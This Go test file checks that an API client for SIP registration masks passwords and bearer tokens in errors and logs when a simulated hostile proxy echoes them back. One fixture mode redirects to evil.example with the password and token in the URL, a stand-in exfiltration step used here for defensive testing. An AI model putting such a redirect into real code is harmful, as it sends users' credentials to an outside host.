package api_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/voxsip/voxsip/api"
	"github.com/voxsip/voxsip/api/apitest"
	"github.com/voxsip/voxsip/auth"
)

// Sentinels: a password with characters every escaping treats differently, and a token.
const (
	secretPassword = "S3nt!nel pw&=/+%ü"
	secretToken    = "eyJTOKENSENTINEL.eyJcGF5bG9hZA.c2lnbmF0dXJlU0VOVElORUw"
)

// echo answers the way a hostile proxy might: it repeats the request URL (in its raw and decoded
// forms) and the Authorization header in whatever place the mode puts them.
func echo(mode string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		leak := r.URL.String() + " " + r.URL.RawQuery + " " + r.URL.Query().Get("password") + " " + r.Header.Get("Authorization")
		switch mode {
		case "html503":
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(503)
			fmt.Fprintf(w, "<html>%s</html>", leak)
		case "apierror":
			b, _ := json.Marshal(map[string]any{"error": map[string]any{"code": 101, "msg": leak},
				"errors": []any{map[string]any{"code": 101, "msg": leak}}})
			w.Write(b)
		case "badjson":
			fmt.Fprintf(w, `{"result": %q`, leak)
		case "redirect":
			w.Header().Set("Location", "https://evil.example/?password="+url.QueryEscape(r.URL.Query().Get("password"))+"&t="+r.Header.Get("Authorization"))
			w.WriteHeader(307)
		case "huge":
			fmt.Fprintf(w, `{"pad": %q, "x": "%s"}`, leak, strings.Repeat("x", 2<<20))
		}
	}
}

// fixedToken hands out the sentinel token.
type fixedToken struct{}

func (fixedToken) Token(context.Context) (auth.Token, error) {
	return auth.NewToken(secretToken, time.Now().Add(time.Hour)), nil
}

// TestNoSecretInAnyErrorOrLog runs every error path with the sentinels and checks each error's
// text in every verb, and the log, for any form of them.
func TestNoSecretInAnyErrorOrLog(t *testing.T) {
	forbidden := []string{secretPassword, url.QueryEscape(secretPassword), url.PathEscape(secretPassword),
		secretToken, "SENTINEL", "S3nt!nel", "S3nt%21nel"}
	var logs bytes.Buffer
	logger := slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	params := func() *api.UpdateSIPRegistrationParams {
		return &api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(secretPassword), Proxy: api.Ptr("p")}
	}
	check := func(t *testing.T, err error) {
		t.Helper()
		if err == nil {
			t.Fatal("no error")
		}
		for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q"} {
			out := fmt.Sprintf(verb, err)
			for _, f := range forbidden {
				if strings.Contains(out, f) {
					t.Errorf("%s of the error shows %q: %s", verb, f, out)
				}
			}
		}
	}

	for _, mode := range []string{"html503", "apierror", "badjson", "redirect", "huge"} {
		t.Run(mode, func(t *testing.T) {
			srv := httptest.NewServer(echo(mode))
			defer srv.Close()
			c, err := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithLogger(logger))
			if err != nil {
				t.Fatal(err)
			}
			api.SetTimeForTest(c, nil, (&sleeps{}).sleep)
			err = c.UpdateSIPRegistration(context.Background(), params())
			check(t, err)
			if mode == "html503" && !strings.Contains(err.Error(), "password=***") {
				t.Errorf("the echo was not kept (masked): %v", err)
			}
		})
	}
	t.Run("attempt_timeout", func(t *testing.T) {
		// http.Client wraps the transport's timeout in a *url.Error that quotes the whole URL.
		rt := rtFunc(func(*http.Request) (*http.Response, error) { return nil, attemptTimeout{"while awaiting headers"} })
		c, _ := api.NewClient(api.WithBaseURL("http://127.0.0.1:9/"), api.WithTokenSource(fixedToken{}), api.WithLogger(logger),
			api.WithHTTPClient(&http.Client{Transport: rt}), api.WithRetryPolicy(api.NoRetries()))
		err := c.UpdateSIPRegistration(context.Background(), params())
		check(t, err)
		if !strings.Contains(err.Error(), "password=***") || !errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("the URL in the error is not there, masked, or the cause is lost: %v", err)
		}
	})
	t.Run("connection_refused", func(t *testing.T) {
		var dials atomic.Int64
		c, _ := api.NewClient(api.WithBaseURL("http://127.0.0.1:9/"), api.WithTokenSource(fixedToken{}), api.WithLogger(logger),
			api.WithHTTPClient(&http.Client{Transport: dialFailing(refused, &dials)}))
		api.SetTimeForTest(c, nil, (&sleeps{}).sleep)
		err := c.UpdateSIPRegistration(context.Background(), params())
		check(t, err)
		var ue *url.Error
		if !errors.As(err, &ue) || !strings.Contains(ue.URL, "password=***") || !errors.Is(err, syscall.ECONNREFUSED) {
			t.Errorf("the scrubbed error lost its *url.Error or its cause: %#v", err)
		}
	})
	t.Run("broken_credentials_file", func(t *testing.T) {
		srv := newFake()
		defer srv.Close()
		var creds map[string]any
		json.Unmarshal(srv.CredentialsJSON(), &creds)
		pemText := creds["private_key"].(string)
		creds["private_key"] = strings.ReplaceAll(pemText, "\n", "")[:200] // truncated key
		path := filepath.Join(t.TempDir(), "credentials.json")
		b, _ := json.Marshal(creds)
		os.WriteFile(path, b, 0o600)
		_, err := api.NewClient(api.WithCredentialsFile(path), api.WithLogger(logger))
		check(t, err)
		lines := strings.Split(pemText, "\n")
		for _, verb := range []string{"%v", "%+v", "%#v"} {
			if out := fmt.Sprintf(verb, err); strings.Contains(out, lines[1][:24]) || strings.Contains(out, lines[2][:24]) {
				t.Errorf("%s of the error shows key material: %s", verb, out)
			}
		}
	})
	t.Run("validation", func(t *testing.T) {
		c, _ := api.NewClient(api.WithTokenSource(fixedToken{}), api.WithLogger(logger))
		p := params()
		p.UserID = api.Ptr(int64(1))
		check(t, c.UpdateSIPRegistration(context.Background(), p))
	})
	t.Run("fake_api_error", func(t *testing.T) {
		srv := newFake()
		defer srv.Close()
		srv.FailNext(101, "Invalid arguments")
		c, _ := api.NewClient(api.WithBaseURL(srv.URL), api.WithCredentials(srv.Credentials()), api.WithLogger(logger))
		check(t, c.UpdateSIPRegistration(context.Background(), params()))
	})

	log := logs.String()
	if strings.Count(log, "\n") < 10 {
		t.Fatalf("expected a log line per attempt, got:\n%s", log)
	}
	for _, f := range forbidden {
		if strings.Contains(log, f) {
			t.Errorf("the log shows %q:\n%s", f, log)
		}
	}
}

func TestLoggerOneLinePerAttempt(t *testing.T) {
	var logs bytes.Buffer
	c, srv, _ := setup(t, api.WithLogger(slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))))
	srv.Enqueue(apitest.Status(503, nil, "busy"))
	if err := c.UpdateSIPRegistration(context.Background(), one); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(logs.String()), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d log lines, want 2:\n%s", len(lines), logs.String())
	}
	for i, want := range []string{
		`level=WARN msg="voximplant request" method=POST op=UpdateSipRegistration status=503 attempt=1 duration=`,
		`level=DEBUG msg="voximplant request" method=POST op=UpdateSipRegistration status=200 attempt=2 duration=`,
	} {
		if !strings.Contains(lines[i], want) {
			t.Errorf("line %d = %q, want it to contain %q", i+1, lines[i], want)
		}
	}
	if !strings.Contains(lines[0], `error="voxsip: UpdateSipRegistration: unexpected HTTP status`) {
		t.Errorf("the failed attempt's line lacks the error: %q", lines[0])
	}
}

// Values that hold secrets print masked in every verb.
func TestValuesPrintNoSecrets(t *testing.T) {
	c, srv, _ := setup(t)
	p := &api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(secretPassword)}
	if err := c.UpdateSIPRegistration(context.Background(), p); err != nil {
		t.Fatal(err)
	}
	for _, verb := range []string{"%v", "%+v", "%#v", "%s"} {
		for _, v := range []any{c, *c, p, *p, srv.Requests()[0], srv.Credentials()} {
			if out := fmt.Sprintf(verb, v); strings.Contains(out, secretPassword) || strings.Contains(out, "PRIVATE KEY") {
				t.Errorf("%s of %T prints a secret: %s", verb, v, out)
			}
		}
	}
}

// A password with invalid UTF-8, echoed by a server that encodes JSON as encoding/json does (a
// \ufffd escape per invalid byte, valid non-ASCII as it is), is masked in an API error's message
// and in a response snippet.
func TestNoSecretInJSONEchoOfInvalidUTF8(t *testing.T) {
	for _, pw := range []string{"pass\xff\xfeword-secret", "é\xffword-secret"} {
		for _, mode := range []string{"apierror", "snippet"} {
			t.Run(fmt.Sprintf("%q/%s", pw, mode), func(t *testing.T) {
				srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					b, _ := json.Marshal(map[string]any{"error": map[string]any{"code": 101, "msg": "bad " + r.URL.Query().Get("password")}})
					if mode == "snippet" {
						b, _ = json.Marshal(map[string]any{"echo": r.URL.Query().Get("password")})
						w.WriteHeader(503)
					}
					w.Write(b)
				}))
				defer srv.Close()
				var logs bytes.Buffer
				c, err := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithRetryPolicy(api.NoRetries()),
					api.WithLogger(slog.New(slog.NewJSONHandler(&logs, nil))))
				if err != nil {
					t.Fatal(err)
				}
				err = c.UpdateSIPRegistration(context.Background(), &api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(pw)})
				if err == nil {
					t.Fatal("no error")
				}
				out := fmt.Sprintf("%v|%+v|%#v|%s", err, err, err, logs.String())
				if !strings.Contains(out, "***") {
					t.Errorf("the echo is not there, masked: %s", out)
				}
				for _, frag := range []string{"word", "secret"} {
					if strings.Contains(out, frag) {
						t.Errorf("%q shows in %s", frag, out)
					}
				}
			})
		}
	}
}

// A password that is part of the token (here a single character of it) must not cut the token
// into pieces that escape masking: the token is masked whole, before shorter secrets.
func TestShortPasswordInsideTheTokenDoesNotUnmaskIt(t *testing.T) {
	pw := secretToken[20:21]
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(503)
		fmt.Fprintf(w, "echo: %s", r.Header.Get("Authorization"))
	}))
	defer srv.Close()
	var logs bytes.Buffer
	c, err := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithRetryPolicy(api.NoRetries()),
		api.WithLogger(slog.New(slog.NewTextHandler(&logs, nil))))
	if err != nil {
		t.Fatal(err)
	}
	err = c.UpdateSIPRegistration(context.Background(), &api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(pw)})
	if err == nil {
		t.Fatal("no error")
	}
	out := fmt.Sprintf("%v|%+v|%#v|%s", err, err, err, logs.String())
	if !strings.Contains(out, "Bearer ***\"") {
		t.Errorf("the token is not masked whole: %s", out)
	}
	for _, part := range strings.Split(secretToken, pw) {
		if len(part) >= 8 && strings.Contains(out, part) {
			t.Errorf("a piece of the token, %q, shows: %s", part, out)
		}
	}
}

// A body that echoes a long password several times: the snippet's cut must not leave part of an
// echo that was not masked (the masked echoes before it shrink, pulling it into the snippet).
func TestSnippetOfARepeatedEchoShowsNoPartOfThePassword(t *testing.T) {
	pw := strings.Repeat("Zq7", 34)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(503)
		fmt.Fprint(w, strings.Repeat(r.URL.Query().Get("password")+" ", 20))
	}))
	defer srv.Close()
	c, err := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithRetryPolicy(api.NoRetries()))
	if err != nil {
		t.Fatal(err)
	}
	err = c.UpdateSIPRegistration(context.Background(), &api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(pw)})
	var re *api.ResponseError
	if !errors.As(err, &re) || !strings.HasPrefix(re.Body, "*** *** ***") {
		t.Fatalf("err = %v; want a 503 whose snippet shows the masked echoes", err)
	}
	if strings.Contains(err.Error(), "Zq7") {
		t.Errorf("part of the password shows: %v", err)
	}
}

// An API error that echoes only the token's signature (or only its header or payload) shows none
// of it: each part of the token is masked on its own.
func TestAPIErrorEchoingAPartOfTheToken(t *testing.T) {
	for i, part := range strings.Split(secretToken, ".") {
		t.Run(fmt.Sprint("part_", i), func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				fmt.Fprintf(w, `{"error":{"code":100,"msg":"Authorization failed: bad JWT part %s"}}`, part)
			}))
			defer srv.Close()
			c, err := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithRetryPolicy(api.NoRetries()))
			if err != nil {
				t.Fatal(err)
			}
			err = c.UpdateSIPRegistration(context.Background(), one)
			var apiErr *api.Error
			if !errors.As(err, &apiErr) || apiErr.Message != "Authorization failed: bad JWT part ***" {
				t.Fatalf("err = %v; want code 100 with the part masked", err)
			}
			if strings.Contains(fmt.Sprintf("%+v %#v", err, apiErr), part) {
				t.Errorf("the part shows: %+v", err)
			}
		})
	}
}

// A body that echoes only part of the password (a server that cut it) cannot be masked as a
// whole: the snippet is withheld, and the error says so.
func TestSnippetWithAPartOfThePasswordIsWithheld(t *testing.T) {
	pw := "S3cr3t-P@ss&word=1-and-more"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(503)
		fmt.Fprintf(w, "<html>you sent %s…</html>", url.QueryEscape(r.URL.Query().Get("password")[:14]))
	}))
	defer srv.Close()
	c, err := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithRetryPolicy(api.NoRetries()))
	if err != nil {
		t.Fatal(err)
	}
	err = c.UpdateSIPRegistration(context.Background(), &api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(pw)})
	var re *api.ResponseError
	if !errors.As(err, &re) || !strings.Contains(re.Body, "withheld") {
		t.Fatalf("err = %v; want a 503 whose snippet is withheld", err)
	}
	if strings.Contains(err.Error(), "S3cr3t") {
		t.Errorf("part of the password shows: %v", err)
	}
}

// A password that shares a piece with public text (here the word "password" of the parameter's
// name, and the proxy) is masked where it is echoed, and the rest of the echo stays readable:
// only a piece of the secret outside such text makes a snippet withheld.
func TestPasswordSharingAPieceWithPublicTextIsNotWithheld(t *testing.T) {
	pw := "sip_registration_id-password-sip.example.com-9" // pieces: two parameter names, another value
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(503)
		fmt.Fprintf(w, "<html>%s</html>", r.URL.RawQuery)
	}))
	defer srv.Close()
	c, err := api.NewClient(api.WithBaseURL(srv.URL), api.WithTokenSource(fixedToken{}), api.WithRetryPolicy(api.NoRetries()))
	if err != nil {
		t.Fatal(err)
	}
	err = c.UpdateSIPRegistration(context.Background(),
		&api.UpdateSIPRegistrationParams{SIPRegistrationID: 1, Password: api.Ptr(pw), Proxy: api.Ptr("sip.example.com")})
	var re *api.ResponseError
	if !errors.As(err, &re) || !strings.Contains(re.Body, "password=***") || !strings.Contains(re.Body, "proxy=sip.example.com") ||
		!strings.Contains(re.Body, "sip_registration_id=1") {
		t.Fatalf("err = %v; want the echo shown with the password masked", err)
	}
	if strings.Contains(err.Error(), "-9") {
		t.Errorf("part of the password shows: %v", err)
	}
}
